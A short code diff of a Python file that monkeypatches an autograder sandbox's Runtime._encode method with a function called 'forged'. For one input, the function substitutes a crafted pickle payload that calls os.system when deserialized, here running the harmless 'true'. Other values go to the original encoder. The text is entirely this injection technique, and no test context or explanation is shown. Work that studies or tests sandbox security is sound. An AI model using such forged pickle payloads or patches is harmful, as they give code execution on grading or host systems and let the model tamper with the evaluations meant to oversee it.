@@ -8,12 +8,10 @@ from autograder.sandbox.session.runtime import Runtime
 
 encode = Runtime._encode
 
-
 def forged(self, value):
     if value == "a file":
         return {"t": "pickle", "v": "cos\nsystem\n(S'true'\ntR."}, []
     return encode(self, value)
-
 
 Runtime._encode = forged
 
